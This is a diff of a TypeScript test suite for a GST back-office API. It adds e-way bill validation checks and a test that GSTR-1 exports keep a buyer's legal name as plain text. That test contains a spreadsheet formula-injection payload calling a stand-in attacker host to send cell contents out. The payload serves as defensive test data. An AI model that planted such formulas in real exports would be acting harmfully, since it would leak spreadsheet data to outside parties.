@@ -270,21 +270,41 @@ describe("GST in the back office", () => {
         cookie: ownerCookie,
         "content-type": "application/json",
       },
-      payload: JSON.stringify({ invoices: [{ invoiceId: row?.id, distanceKm: 1420 }] }),
+      payload: JSON.stringify({
+        invoices: [{ invoiceId: row?.id, distanceKm: 1420, vehicleNo: "mh12 ab 1234" }],
+      }),
     });
     expect(eway.headers["content-type"]).toContain("application/json");
     expect(eway.statusCode).toBe(200);
     const json = JSON.parse(eway.payload) as { billLists: Record<string, unknown>[] };
     expect(json.billLists).toHaveLength(1);
-    expect(json.billLists[0]).toMatchObject({ docNo: row?.number, transDistance: "1420" });
+    expect(json.billLists[0]).toMatchObject({
+      docNo: row?.number,
+      transDistance: "1420",
+      transMode: 1,
+      vehicleNo: "MH12AB1234",
+      TotNonAdvolVal: 0,
+    });
+    expect(json.billLists[0]).not.toHaveProperty("cessNonAdvolValue");
+    // Part A only: the transporter's id instead of a vehicle; neither is refused with a sentence.
+    const partA = await sales.post<unknown>("/v1/admin/gst/eway-bill", {
+      invoices: [{ invoiceId: row?.id, distanceKm: 1420, transporterId: "07aaacv1234a1z5" }],
+    });
+    expect(partA.statusCode).toBe(200);
+    const noPartB = await sales.post("/v1/admin/gst/eway-bill", {
+      invoices: [{ invoiceId: row?.id, distanceKm: 1420 }],
+    });
+    expect(noPartB.statusCode).toBe(422);
+    expect(noPartB.error?.code).toBe("EWAY_BILL_REFUSED");
+    expect(noPartB.error?.message).toContain("vehicle number");
     expect(JSON.stringify(json.billLists[0])).toContain("LR-90001");
     const unknown = await sales.post("/v1/admin/gst/eway-bill", {
-      invoices: [{ invoiceId: 999_999, distanceKm: 5 }],
+      invoices: [{ invoiceId: 999_999, distanceKm: 5, vehicleNo: "DL01AB1234" }],
     });
     expect(unknown.statusCode).toBe(404);
   });
 
-  it("GSTR-1 tables carry a buyer's company name as text, never as a formula", async () => {
+  it("GSTR-1 tables carry a buyer's legal name as text, never as a formula", async () => {
     const hostile = '=HYPERLINK("http://evil.example/?"&A2,"x")';
     const address = await api(testApp.app).post<{ id: number }>(
       "/v1/customer/address",
@@ -312,6 +332,9 @@ describe("GST in the back office", () => {
       { token: buyer.token, headers: { "idempotency-key": `gst-formula-${keySerial}-${Date.now()}` } },
     );
     expect(placed.statusCode, JSON.stringify(placed.body)).toBe(201);
+    // The receiver is the firm's legal name (never the company typed on the address), set by staff.
+    const named = await owner.patch(`/v1/admin/customers/${buyer.id}`, { legalName: hostile });
+    expect(named.statusCode, JSON.stringify(named.body)).toBe(200);
     await toDispatched(placed.data.id);
     const month = new Intl.DateTimeFormat("en-CA", {
       timeZone: "Asia/Kolkata",
